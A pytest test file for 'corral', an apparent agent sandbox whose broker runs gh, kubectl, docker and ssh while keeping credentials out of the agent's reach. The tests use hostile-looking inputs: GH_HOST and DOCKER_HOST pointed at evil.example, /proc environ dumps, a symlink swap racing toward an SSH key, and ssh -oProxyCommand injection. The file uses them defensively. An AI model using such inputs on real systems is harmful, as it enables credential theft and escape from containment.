"""Tests the commands that the broker runs outside: which it runs, and what the program sees of the agent."""

from __future__ import annotations

import json
import os
import socket
import subprocess
from pathlib import Path

import pytest
from brokers import UNJUDGED, brokered
from observe import alive, eventually, unique_seconds

from corral import Containment, Sandbox, SandboxConfig
from corral.audit.audit_log import directory as audit_directory
from corral.broker.commands.command_service import CommandService, command_services
from corral.broker.commands.remote_slug import Remote, remote_of
from corral.guard.broker_shapes import Match, granted_target, match_shape
from corral.model.errors import PolicyError
from corral.model.grant import BROKER, Grant

TOKEN = "gho_0123456789abcdefghij"
REMOTE = Remote("forge.example", "owner/name")
# Prints all that it got, as JSON.
SHOW = """#!/usr/bin/env python3
import json, os, sys
home = os.environ["HOME"]
found = {"argv": sys.argv[1:], "env": dict(os.environ), "cwd": os.getcwd(), "stdin": sys.stdin.read(), "files": {}}
for name in os.listdir("."):
    found["files"][name] = open(name, "rb").read().decode("latin-1")
found["home"] = sorted(os.path.join(a, f)[len(home) + 1:] for a, _, c in os.walk(home) for f in c)
found["tty"] = [os.isatty(n) for n in (0, 1, 2)]
found["descriptors"] = sorted(int(n) for n in os.listdir("/proc/self/fd") if os.path.exists(f"/proc/self/fd/{n}"))
found["project"] = os.path.exists(PROJECT)
try:
    open("/dev/tty")
except OSError as error:
    found["terminal"] = error.errno
print(json.dumps(found))
"""


class World:
    """A home with credentials, a project, and programs that stand for the user's."""

    def __init__(self, tmp_path: Path, project: Path) -> None:
        self.project = project
        self.home = tmp_path / "home"
        self.bin = tmp_path / "bin"
        self.bin.mkdir()
        for path, text in {
            ".config/gh/hosts.yml": f"forge.example:\n    oauth_token: {TOKEN}\n    user: ann\n",
            ".config/gh/config.yml": "aliases:\n    pr: '!touch planted'\n",
            ".kube/config": f"clusters:\n- cluster:\n    server: https://cluster.example:6443\nusers:\n- user:\n    token: {TOKEN}\n",
            ".ssh/id_ed25519": "key",
        }.items():
            (self.home / path).parent.mkdir(parents=True, exist_ok=True)
            (self.home / path).write_text(text)
        self.environ = {**os.environ, "HOME": str(self.home), "GH_TOKEN": TOKEN, "KUBECONFIG": "/x", "LD_PRELOAD": ""}
        self.config = SandboxConfig(str(project), profile=UNJUDGED, timeout_seconds=120)

    def program(self, name: str, text: str = SHOW) -> None:
        (self.bin / name).write_text(text.replace("PROJECT", repr(str(self.project))))
        (self.bin / name).chmod(0o755)

    def service(self, program: str, *targets: str, remote: Remote | None = REMOTE) -> CommandService:
        granted = targets or tuple(
            f"{program}/{shape}" for shape in ("read", "apply", "pr-create", "build", "run", "merge")
        )
        return CommandService(self.config, program, granted, remote, self.environ, directories=(str(self.bin),))


@pytest.fixture
def world(tmp_path: Path, project: Path) -> World:
    return World(tmp_path, project)


def shown(box: Sandbox, command: list[str] | str) -> dict[str, object]:
    result = box.run(command, shell=isinstance(command, str))
    assert result.exit_code == 0, result
    found: dict[str, object] = json.loads(result.stdout)
    return found


def refusal(box: Sandbox, command: list[str]) -> str:
    result = box.run(command)
    assert result.exit_code == 126, result
    assert result.stdout == b""
    return result.stderr.decode()


def test_program_in_its_box_sees_its_credentials_and_nothing_else(world: World) -> None:
    world.program("gh")
    (world.project / ".env").write_text("SECRET=1")
    with brokered(world.config, {"gh": world.service("gh")}) as (box, _):
        found = shown(box, "GH_HOST=evil.example GH_TOKEN=x PAGER=id LD_PRELOAD=/x gh pr view 3 </etc/passwd")
    assert found["argv"] == ["pr", "view", "--repo=owner/name", "3"]
    assert (found["files"], found["stdin"], found["project"]) == ({}, "", False)
    assert set(found["home"]) == {".config/gh/hosts.yml", ".gitconfig"}  # type: ignore[call-overload]
    environment = found["env"]
    assert isinstance(environment, dict)
    assert environment["GH_HOST"] == "forge.example"
    proxies = {name for name in environment if "proxy" in name.lower() or name.startswith("GIT_CONFIG_")}
    proxies |= {"SSL_CERT_FILE", "SSL_CERT_DIR"}  # of the user, if set
    own = {"GH_HOST", "GH_NO_UPDATE_NOTIFIER", "GH_PROMPT_DISABLED", "GH_NO_EXTENSION_UPDATE_NOTIFIER", "NO_COLOR"}
    usual = {"HOME", "USER", "LOGNAME", "LANG", "PATH", "PWD", "XDG_RUNTIME_DIR", "LC_CTYPE", "OLDPWD", "TMPDIR"}
    assert set(environment) - proxies - own <= usual, environment
    assert TOKEN not in json.dumps(environment)
    assert (found["tty"], found["descriptors"]) == ([False] * 3, [0, 1, 2])
    assert "terminal" in found


def test_directory_is_removed(world: World) -> None:
    world.program("gh")
    with brokered(world.config, {"gh": world.service("gh")}) as (box, _):
        found = shown(box, ["gh", "pr", "list"])
    assert not os.path.exists(str(found["cwd"]))


def test_files_come_by_content(world: World) -> None:
    world.program("kubectl")
    (world.project / "app.yaml").write_text("kind: Pod")
    (world.project / "deep").mkdir()
    (world.project / "deep" / "a b;.yaml").write_text("kind: Service")
    with brokered(world.config, {"kubectl": world.service("kubectl")}) as (box, _):
        found = shown(box, ["kubectl", "apply", "-f", "app.yaml", "-f", "deep/a b;.yaml"])
    assert found["argv"] == ["apply", "--filename=0-app.yaml", "--filename=1-a_b_.yaml"]
    assert found["files"] == {"0-app.yaml": "kind: Pod", "1-a_b_.yaml": "kind: Service"}


def test_path_of_the_host_is_not_opened_outside(world: World) -> None:
    world.program("kubectl")
    secret = world.home / ".ssh" / "id_ed25519"
    (world.project / "link.yaml").symlink_to(secret)
    # The canary: on the host the link leads to the key.
    assert (world.project / "link.yaml").read_text() == "key"
    with brokered(world.config, {"kubectl": world.service("kubectl")}) as (box, _):
        for path in (str(secret), "link.yaml", "/dev/zero", ".", "absent.yaml"):
            assert "corral: kubectl: " in refusal(box, ["kubectl", "apply", "-f", path])


def test_link_that_is_swapped_meanwhile_never_shows_the_key(world: World) -> None:
    world.program("kubectl", "#!/bin/sh\ncat 0-*\n")
    (world.project / "good.yaml").write_text("good")
    swap = (
        f"(while :; do ln -sf good.yaml a.yaml; ln -sf {world.home}/.ssh/id_ed25519 a.yaml; done) & swapper=$!; "
        "for i in $(seq 8); do kubectl apply -f a.yaml 2>/dev/null; done; kill $swapper"
    )
    with brokered(world.config, {"kubectl": world.service("kubectl")}) as (box, _):
        result = box.run(swap, shell=True)
    assert set(result.stdout.decode().replace("good", "")) == set(), result


def test_shape_that_was_not_granted_is_refused(world: World) -> None:
    world.program("gh")
    with brokered(world.config, {"gh": world.service("gh", "gh/read")}) as (box, _):
        assert "gh/merge was not granted" in refusal(box, ["gh", "pr", "merge", "3", "--squash"])
        assert shown(box, ["gh", "pr", "list"])["argv"] == ["pr", "list", "--repo=owner/name"]


OTHER_WORDS: list[list[str]] = [
    ["auth", "token"],
    ["pr", "list", "-R", "other/name"],
    ["api", "user"],
    ["pr", "list", "--web"],
    ["pr", "list", "-q", "env.GH_TOKEN"],
    ["pr", "lis"],
    [],
    [""],
    ["--"],
    ["\x1b[31m"],
]


def test_other_words_are_refused(world: World) -> None:
    world.program("gh")
    with brokered(world.config, {"gh": world.service("gh")}) as (box, server):
        for words in OTHER_WORDS:
            said = refusal(box, ["gh", *words])
            assert said.startswith("corral: gh: ")
            assert "\x1b" not in said
        assert [bool(one.refusal) for one in server.served()] == [True] * len(OTHER_WORDS)


def test_project_without_a_remote_is_refused(world: World) -> None:
    world.program("gh")
    with brokered(world.config, {"gh": world.service("gh", remote=None)}) as (box, _):
        assert "no remote" in refusal(box, ["gh", "pr", "list"])


def test_host_without_a_login_is_refused(world: World) -> None:
    world.program("gh")
    service = world.service("gh", remote=Remote("other.example", "owner/name"))
    with brokered(world.config, {"gh": service}) as (box, _):
        assert "gh auth login --hostname other.example" in refusal(box, ["gh", "pr", "list"])


def test_program_in_a_writable_place_is_not_run(world: World) -> None:
    world.bin = world.project
    world.program("gh", "#!/bin/sh\ntouch planted\n")
    with brokered(world.config, {"gh": world.service("gh")}) as (box, _):
        assert "not installed" in refusal(box, ["gh", "pr", "list"])
    (world.project / "bin").mkdir()
    world.bin = world.project / "bin"
    world.program("gh")
    outside = world.home / "bin"
    outside.mkdir()
    (outside / "gh").symlink_to(world.project / "bin" / "gh")
    world.bin = outside
    with brokered(world.config, {"gh": world.service("gh")}) as (box, _):
        assert "not installed" in refusal(box, ["gh", "pr", "list"])


PRINT_TOKEN = '#!/bin/sh\nsed -n "s/.*oauth_token: //p" ~/.config/gh/hosts.yml{more}\n'


@pytest.mark.parametrize(
    "more", ["", " >&2", " | while read -n 1 c; do printf %s $c; done"], ids=["stdout", "stderr", "in parts"]
)
def test_output_with_the_token_is_not_passed_on(world: World, more: str) -> None:
    world.program("gh", PRINT_TOKEN.replace("#!/bin/sh", "#!/bin/bash").format(more=more))
    with brokered(world.config, {"gh": world.service("gh")}) as (box, _):
        result = box.run(["gh", "pr", "list"])
    assert TOKEN.encode() not in result.stdout + result.stderr
    assert b"contains a credential" in result.stderr


def test_token_is_passed_on_without_the_filter(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    # The canary of the test above.
    world.program("gh", PRINT_TOKEN.format(more=""))
    monkeypatch.setattr("corral.broker.commands.command_service.credential_values", lambda _: ())
    with brokered(world.config, {"gh": world.service("gh")}) as (box, _):
        assert box.run(["gh", "pr", "list"]).stdout == f"{TOKEN}\n".encode()


def test_agents_own_sandbox_has_no_token(world: World) -> None:
    world.program("gh")
    with brokered(world.config, {"gh": world.service("gh")}) as (box, _):
        seen = box.run("cat ~/.config/gh/hosts.yml; env; cat /proc/*/environ /proc/*/cmdline", shell=True)
    assert TOKEN.encode() not in seen.stdout + seen.stderr


def test_program_without_a_box_gets_no_token_variable(world: World) -> None:
    world.program("docker")
    world.environ["DOCKER_HOST"] = "tcp://evil.example:2375"
    with brokered(world.config, {"docker": world.service("docker")}) as (box, _):
        found = shown(box, "DOCKER_HOST=tcp://evil.example docker ps -a")
    environment = found["env"]
    assert isinstance(environment, dict)
    assert {"DOCKER_HOST", "GH_TOKEN", "KUBECONFIG", "LD_PRELOAD"} & set(environment) == set()
    assert (found["argv"], found["files"], found["descriptors"]) == (["ps", "--all"], {}, [0, 1, 2])


def test_socket_of_the_engine_is_only_taken_from_a_safe_place(world: World) -> None:
    world.program("docker")
    for place, is_taken in ((world.home, True), (world.project, False)):
        world.environ["DOCKER_HOST"] = f"unix://{place}/engine.sock"
        with brokered(world.config, {"docker": world.service("docker")}) as (box, _):
            environment = shown(box, ["docker", "ps"])["env"]
        assert isinstance(environment, dict)
        assert ("DOCKER_HOST" in environment) is is_taken


def test_stdin_travels_only_where_the_shape_says_so(world: World) -> None:
    world.program("docker")
    with brokered(world.config, {"docker": world.service("docker")}) as (box, _):
        assert shown(box, "echo archive | docker build -t app -")["stdin"] == "archive\n"
        assert shown(box, "echo archive | docker ps")["stdin"] == ""


def test_killed_stub_ends_the_box(world: World) -> None:
    seconds = unique_seconds()
    world.program("gh", f"#!/bin/sh\necho begun\nsleep {seconds}\n")
    with brokered(world.config, {"gh": world.service("gh")}) as (box, server):
        box.run("mkfifo f; gh pr list > f & exec 3<f; read x <&3; kill -9 $!; wait", shell=True)
        eventually(lambda: len(server.served()) == 1)
        eventually(lambda: alive(seconds) == [])


@pytest.mark.parametrize("name", ["INT", "TERM", "HUP"])
def test_signal_ends_the_box(world: World, name: str) -> None:
    seconds = unique_seconds()
    world.program("gh", f"#!/bin/sh\necho begun\nsleep {seconds}\n")
    with brokered(world.config, {"gh": world.service("gh")}) as (box, server):
        box.run(f"set -m; mkfifo f; gh pr list > f & exec 3<f; read x <&3; kill -{name} $!; wait", shell=True)
        eventually(lambda: len(server.served()) == 1)
        eventually(lambda: alive(seconds) == [])


@pytest.mark.parametrize("program", ["gh", "docker"])
def test_killed_host_leaves_nothing(world: World, program: str) -> None:
    seconds = unique_seconds()
    world.program(program, f"#!/bin/sh\necho begun\nsleep {seconds}\n")
    words = {"gh": ["gh", "pr", "list"], "docker": ["docker", "ps"]}[program]
    pid = os.fork()
    if pid == 0:
        try:
            with brokered(world.config, {program: world.service(program)}) as (box, _):
                box.run(words)
        finally:
            os._exit(0)
    eventually(lambda: bool(alive(seconds)))
    os.kill(pid, 9)
    os.waitpid(pid, 0)
    eventually(lambda: alive(seconds) == [])


def test_command_that_never_reads_holds_up_no_other(world: World) -> None:
    world.program("gh", "#!/bin/sh\ncase $1 in issue) yes;; esac\necho other\n")
    text = "gh issue list | sleep 1000 & gh pr list; kill $(jobs -p)"
    with brokered(world.config, {"gh": world.service("gh")}) as (box, _):
        assert box.run(text, shell=True).stdout == b"other\n"


def test_use_is_in_the_audit_log(world: World) -> None:
    world.program("gh", "#!/bin/sh\necho shown\nexit 7\n")
    with brokered(world.config, {"gh": world.service("gh")}) as (box, _):
        box.run("gh pr view 3; gh browse", shell=True)
    log = "".join(path.read_text() for path in Path(audit_directory(os.environ)).glob("*") if path.is_file())
    entry, refused = (json.loads(line) for line in log.splitlines() if str(world.project) in line)
    assert (entry["event"], entry["target"], entry["argv"]) == ("broker", "gh/read", ["gh", "pr", "view", "3"])
    assert entry["result"] | {"duration_ms": 0} == {
        "exit_code": 7,
        "stdin_bytes": 0,
        "stdout_bytes": 6,
        "duration_ms": 0,
    }
    assert (refused["decision"], refused["result"]["exit_code"]) == ("deny", 126)
    assert refused["argv"] == ["gh", "browse"]


def test_keyring_socket_is_only_in_the_box(world: World, tmp_path: Path) -> None:
    runtime = tmp_path / "run"
    runtime.mkdir()
    with socket.socket(socket.AF_UNIX) as bus:
        bus.bind(str(runtime / "bus"))
        bus.listen()
        world.environ["XDG_RUNTIME_DIR"] = str(runtime)
        world.environ["DBUS_SESSION_BUS_ADDRESS"] = "unixexec:path=/bin/false"
        world.program(
            "gh",
            '#!/bin/sh\necho "$DBUS_SESSION_BUS_ADDRESS"; test -S "${DBUS_SESSION_BUS_ADDRESS#*=}" && echo there\n',
        )
        with brokered(world.config, {"gh": world.service("gh")}) as (box, _):
            assert box.run(["gh", "pr", "list"]).stdout.decode() == f"unix:path={runtime}/bus\nthere\n"
            assert box.run(["test", "-e", f"{runtime}/bus"]).exit_code == 1


def test_services_are_those_of_the_grants(world: World) -> None:
    grants = [
        Grant(BROKER, "gh/read"),
        Grant(BROKER, "docker/ps"),
        Grant("network", "gh.example:443"),
        Grant(BROKER, "curl/x"),
    ]
    assert set(command_services(world.config, grants, world.environ)) == {"gh", "docker"}


def test_credentials_are_refused_in_a_sandbox_for_commands(world: World) -> None:
    opened = Containment(credentials=(str(world.home / ".ssh" / "id_ed25519"),))
    with (
        Sandbox(world.config.replace(containment=opened)) as box,
        pytest.raises(PolicyError, match="only for the broker"),
    ):
        box.run(["true"])


@pytest.mark.parametrize(
    ("url", "remote"),
    [
        ("https://forge.example/owner/name.git", REMOTE),
        ("https://ann:x@forge.example:8443/owner/name", REMOTE),
        ("git@forge.example:owner/name.git", REMOTE),
        ("ssh://git@forge.example:2222/owner/name.git", REMOTE),
        ("/srv/git/name.git", Remote()),
        ("https://forge.example/name", Remote()),
        ("https://forge.example/a/b/c", Remote()),
        ("https://forge.example/-x/name", Remote()),
        ("https://forge.example/owner/..", Remote()),
        ("", Remote()),
    ],
)
def test_url_of_a_remote_names_a_repository(url: str, remote: Remote) -> None:
    assert remote_of(url) == remote


def test_granted_words_let_no_other_words_run(world: World) -> None:
    world.program("ssh")
    match = match_shape("ssh", ("build.example", "uptime"))
    assert isinstance(match, Match)
    target = granted_target(match, ("build.example", "uptime"))
    (world.project / "other.sh").write_text("ssh build.example reboot")
    with brokered(world.config, {"ssh": world.service("ssh", target)}) as (box, _):
        assert "or not with these words" in refusal(box, ["sh", "other.sh"])
        assert shown(box, ["ssh", "build.example", "uptime"])["argv"][-2:] == ["build.example", "uptime"]  # type: ignore[index]
    # A grant of the whole shape runs it.
    with brokered(world.config, {"ssh": world.service("ssh", "ssh/build.example")}) as (box, _):
        assert shown(box, ["sh", "other.sh"])["argv"][-1] == "reboot"  # type: ignore[index]


def test_ssh_runs_one_command_on_the_granted_host(world: World) -> None:
    world.program("ssh")
    world.environ["SSH_AUTH_SOCK"] = str(world.home / "agent.sock")
    with brokered(world.config, {"ssh": world.service("ssh", "ssh/build.example")}) as (box, _):
        found = shown(box, ["ssh", "-p", "2222", "build.example", "ls", "-la"])
        *options, host, program, flag = found["argv"]  # type: ignore[misc]  # a list
        assert (host, program, flag, options[-2:]) == ("build.example", "ls", "-la", ["-p", "2222"])
        assert {"-T", "-a", "-x", "-oBatchMode=yes", "-oClearAllForwardings=yes", "-oPermitLocalCommand=no"} <= {
            *options
        }
        assert "ssh/other.example was not granted" in refusal(box, ["ssh", "other.example", "ls"])
        assert "ssh/ann@build.example was not granted" in refusal(box, ["ssh", "ann@build.example", "ls"])
        for words in (["-oProxyCommand=id", "build.example", "ls"], ["build.example", "-oProxyCommand=id", "ls"]):
            assert "corral: ssh: " in refusal(box, ["ssh", *words])
    environment = found["env"]
    assert isinstance(environment, dict)
    assert environment["SSH_AUTH_SOCK"] == str(world.home / "agent.sock")


def test_option_behind_the_host_is_an_option_of_ssh_itself(tmp_path: Path) -> None:
    # The canary of the test above.
    words = ["ssh", "-F", "/dev/null", "build.example", f"-oProxyCommand=touch {tmp_path}/ran", "ls"]
    subprocess.run(words, capture_output=True, check=False, stdin=subprocess.DEVNULL)
    assert (tmp_path / "ran").exists()


def test_manifest_comes_on_standard_input(world: World) -> None:
    world.program("kubectl")
    with brokered(world.config, {"kubectl": world.service("kubectl", "kubectl/stdin-apply")}) as (box, _):
        found = shown(box, "echo 'kind: Pod' | kubectl apply -n web -f -")
        assert "was not granted" in refusal(box, ["kubectl", "apply", "-f", "app.yaml"])
    assert (found["argv"], found["stdin"]) == (["apply", "--namespace=web", "--filename=-"], "kind: Pod\n")


IGNORED = """\
# what the image does not need
node_modules
**/*.log
/build/*
!build/keep
docs/[ab]?
Dockerfile
"""


def test_directory_is_packed_inside_for_a_build(world: World) -> None:
    world.program("docker", PACKED)
    app = world.project / "app"
    for name in (
        "node_modules/x/y",
        "src/a.log",
        "src/a",
        "build/drop",
        "build/keep",
        "docs/a1",
        "docs/c1",
        "Dockerfile",
        "docker/Dev",
    ):
        (app / name).parent.mkdir(parents=True, exist_ok=True)
        (app / name).write_text(name)
    (app / ".dockerignore").write_text(IGNORED)
    (app / "key").symlink_to(world.home / ".ssh" / "id_ed25519")
    with brokered(world.config, {"docker": world.service("docker")}) as (box, _):
        found = shown(box, ["docker", "build", "-t", "a", "-f", "app/docker/Dev", "app"])
        inner = shown(box, "cd app && docker build .")
        missing = box.run(["docker", "build", "missing"])
    assert found["argv"] == ["build", "--tag=a", "--file=docker/Dev", "-"]
    assert found["members"] == inner["members"]
    members: dict[str, list[object]] = found["members"]  # type: ignore[assignment]
    kept = {"Dockerfile", "build/keep", "docker/Dev", "docs/c1", "src/a", ".dockerignore"}
    assert {name for name, (kind, *_) in members.items() if kind == "file"} == kept
    assert members["docs/c1"] == ["file", 0, "docs/c1"]
    assert members["key"][0] == "link"  # and not the key
    assert (b"cannot be packed" in missing.stderr, missing.stdout) == (True, b"")


# Prints the members of the archive on standard input.
PACKED = """#!/usr/bin/env python3
import io, json, sys, tarfile
data = sys.stdin.buffer.read()
if not data:
    sys.exit(1)
found = {}
with tarfile.open(fileobj=io.BytesIO(data)) as archive:
    for member in archive:
        kind = "file" if member.isfile() else "link" if member.issym() else "other"
        text = archive.extractfile(member).read().decode() if member.isfile() else ""
        found[member.name] = [kind, member.uid, text]
print(json.dumps({"argv": sys.argv[1:], "members": found}))
"""
